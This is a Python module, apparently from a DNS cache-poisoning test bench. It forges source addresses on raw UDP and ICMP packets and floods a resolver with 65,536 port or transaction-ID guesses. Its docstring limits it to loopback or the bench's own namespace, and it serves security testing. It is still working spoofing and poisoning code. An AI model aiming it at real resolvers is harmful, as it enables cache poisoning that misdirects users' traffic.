"""The off-path attacker: datagrams with a source address that is not its own.

Law: the only raw socket, and only towards loopback or the bench's own network namespace. A flood is 65,536 datagrams
and no more, and it lets the event loop run between its bursts.
"""

from __future__ import annotations

import asyncio
import secrets
import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress
from types import TracebackType
from typing import Self

from dnsfw.poison.messages import Peer

_BURST = 128  # datagrams between looks at the event loop: fewer than a socket's buffer holds
_IP = struct.Struct("!BBHHHBBH4s4s")
_PORTS = range(1024, 65536)


class Spoofer:
    """Sends as anybody. Needs CAP_NET_RAW; raises PermissionError without."""

    def __init__(self) -> None:
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._raw.close()

    def send(self, source: Peer, target: Peer, payload: bytes) -> None:
        """One datagram. A UDP checksum of 0 is none (RFC 768)."""
        udp = struct.pack("!4H", source[1], target[1], 8 + len(payload), 0) + payload
        self._send(_ip_header(source[0], target[0], socket.IPPROTO_UDP, len(udp)) + udp, target[0])

    def unreachable(self, upstream: Peer, resolver: Peer) -> None:
        """An ICMP error that claims to be about a datagram of the resolver's (RFC 792, type 3 code 3)."""
        about = _ip_header(resolver[0], upstream[0], socket.IPPROTO_UDP, 8)
        about += struct.pack("!4H", resolver[1], upstream[1], 8, 0)
        body = struct.pack("!BBHI", 3, 3, 0, 0) + about
        body = body[:2] + _checksum(body).to_bytes(2) + body[4:]
        self._send(_ip_header(upstream[0], resolver[0], socket.IPPROTO_ICMP, len(body)) + body, resolver[0])

    async def flood(self, kind: str, source: Peer, target: Peer, payload: Callable[[int], bytes]) -> None:
        """65,536 guesses; `payload` makes the message for an id."""
        for count, (port, ident) in enumerate(_guesses(kind, target[1])):
            self.send(source, (target[0], port), payload(ident))
            if count % _BURST == 0:
                await asyncio.sleep(0)

    def _send(self, packet: bytes, target: str) -> None:
        with suppress(BlockingIOError, ConnectionRefusedError):  # as on any wire, some are lost
            self._raw.sendto(packet, (target, 0))


def _guesses(kind: str, right_port: int) -> Iterator[tuple[int, int]]:
    """Ports and ids, for a `Packet.flood`."""
    if kind == "ports":
        ident = secrets.randbits(16)
        return ((port, ident) for port in _PORTS)
    port = right_port if kind == "ids" else secrets.choice(_PORTS)
    return ((port, ident) for ident in range(0x10000))


def _ip_header(source: str, target: str, proto: int, length: int) -> bytes:
    """RFC 791 3.1, without options; the kernel fills in the checksum (raw(7))."""
    ends = socket.inet_aton(source), socket.inet_aton(target)
    return _IP.pack(0x45, 0, _IP.size + length, 0, 0, 64, proto, 0, *ends)


def _checksum(octets: bytes) -> int:
    """RFC 1071, of an even number of octets."""
    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF
